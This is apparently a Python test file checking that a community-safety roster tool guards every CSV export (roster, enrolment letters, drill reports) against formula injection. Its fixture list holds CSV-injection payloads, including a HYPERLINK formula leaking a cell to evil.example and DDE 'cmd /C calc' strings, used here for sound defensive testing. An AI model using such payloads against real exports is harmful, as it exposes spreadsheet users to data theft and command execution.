"""Every CSV the project writes guards formula-like cells (CSV injection) through one helper,
`safetynet.csvout`: the roster export, the enrolment letters and the drill report with its
household lists, written by the CLI and served over HTTP."""

from __future__ import annotations

import argparse
import asyncio
import csv
import io
import re
from pathlib import Path

from dashboard_fixtures import World, client, index_households, login, start_campaign, world
from hypothesis import given
from hypothesis import strategies as st
from roster_helpers import household

from safetynet.clock import FakeClock
from safetynet.csvout import FORMULA_START, csv_text, guard_cell, unguard_cell
from safetynet.domain.campaigns import StepPlan
from safetynet.roster import commands
from safetynet.stats.report import report_cli

REPO = Path(__file__).resolve().parents[2]
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?")

# What a hostile roster or a careless spreadsheet puts in names and addresses.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "'=already quoted"]


def safe(cell: str) -> bool:
    """A spreadsheet reads the cell as text or as a plain number, never as a formula."""
    return not cell.startswith(FORMULA_START) or bool(PLAIN_NUMBER.fullmatch(cell))


# -- the guard -------------------------------------------------------------------


def test_formula_like_cells_get_an_apostrophe_and_plain_numbers_stay_readable() -> None:
    assert [guard_cell(v) for v in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "＝1", "\tx", "\r=1")] == [
        "'=1+1", "'+cmd", "'-2+3", "'@SUM(A1)", "'＝1", "'\tx", "'\r=1"]
    # negative numbers, Telegram group chats, E.164 and national phone numbers: numbers, not formulas
    assert [guard_cell(v) for v in (-3, -0.25, "-1001234567890", "+819012345678", "090-1234-5678", 0.5, None)] == [
        "-3", "-0.25", "-1001234567890", "+819012345678", "090-1234-5678", "0.5", ""]
    assert guard_cell("+81 90-1234-5678") == "'+81 90-1234-5678"  # not a plain number: text
    assert [guard_cell(v) for v in ("佐藤", "'plain", "it's")] == ["佐藤", "'plain", "it's"]
    # an apostrophe the value itself had in front of a formula is kept through a round trip
    assert guard_cell("'=A1") == "''=A1" and unguard_cell("''=A1") == "'=A1"


@given(st.text(max_size=30) | st.sampled_from(HOSTILE) | st.from_regex(r"'*[=+\-@＝][0-9a-z+\-.]*", fullmatch=True))
def test_the_guard_is_safe_and_undone_exactly(text: str) -> None:
    written = guard_cell(text)
    assert safe(written)
    assert unguard_cell(written) == text


def test_rows_of_text_are_guarded_cell_by_cell() -> None:
    assert csv_text([["=1", -1, "a,b"], []], "\n") == "'=1,-1,\"a,b\"\n\n"


# -- every CSV the project writes --------------------------------------------------


def test_csv_is_written_only_through_the_guarded_writer() -> None:
    """A new CSV output that calls the csv module directly would skip the guard."""
    offenders = []
    for path in sorted((REPO / "safetynet").rglob("*.py")):
        if path.name == "csvout.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\b|\bwriterows?\(", text):
            offenders.append(str(path.relative_to(REPO)))
    # they call CsvWriter.writerow
    allowed = {"safetynet/roster/csvio.py", "safetynet/roster/enrol_letters.py", "safetynet/privacy/commands.py"}
    assert [p for p in offenders if p not in allowed] == []
    for name in allowed:
        assert not re.search(r"\bcsv\.(writer|DictWriter)\b", (REPO / name).read_text(encoding="utf-8")), name


def _cells(text: str) -> list[str]:
    return [c for r in csv.reader(io.StringIO(text)) for c in r]


async def test_every_csv_output_guards_hostile_names_and_addresses(tmp_path: Path) -> None:
    clock = FakeClock()
    async with world(tmp_path, clock=clock) as w:
        places = [("=地区", "@SUM(1)町会"), ("+地区", "-1町会")]
        hostile = [household(*places[i % 2], "-班", f"X-{i}", value, value, 2, phone=f"+81904444000{i}")
                   for i, value in enumerate(HOSTILE)]
        await w.store.roster.import_households(hostile)
        await index_households(w)
        cid = await _start_over_everyone(w, [w.hh("X-0").id])

        outputs: dict[str, str] = {}
        args = argparse.Namespace(id=str(cid), format="csv", output=str(tmp_path / "report.csv"))
        assert await asyncio.to_thread(report_cli, w.cfg, args) == 0
        outputs["report (CLI)"] = (tmp_path / "report.csv").read_text(encoding="utf-8")
        async with client() as http:
            await login(http, w, "admin")
            async with http.get(f"{w.url}/campaigns/{cid}/report?format=csv") as r:
                assert r.status == 200
                outputs["report (HTTP)"] = await r.text()
        args = argparse.Namespace(file=str(tmp_path / "export.csv"), encoding="utf-8", headers="ja")
        assert await asyncio.to_thread(commands.export, w.cfg, args) == 0
        outputs["roster export"] = (tmp_path / "export.csv").read_text(encoding="utf-8-sig")
        args = argparse.Namespace(output=str(tmp_path / "letters.csv"), rotate=False, association=None)
        assert await asyncio.to_thread(commands.codes, w.cfg, args) == 0
        outputs["enrolment letters"] = (tmp_path / "letters.csv").read_text(encoding="utf-8-sig")

    for what, text in outputs.items():
        cells = _cells(text)
        assert [c for c in cells if not safe(c)] == [], what
        for value in HOSTILE:
            assert guard_cell(value) in cells, (what, value)  # the hostile households are in every file
    report = outputs["report (CLI)"]
    assert "'=地区" in _cells(report) and "'@SUM(1)町会" in _cells(report)  # the summary's names too
    assert outputs["report (HTTP)"] == report


async def _start_over_everyone(w: World, unreachable: list[int]) -> int:
    """A campaign over every household; `unreachable` go on the report's unreachable list."""
    cid = await start_campaign(w, title="=訓練")
    await w.store.campaigns.write_step(cid, StepPlan((), tuple(unreachable), ()), w.clock.now())
    return cid
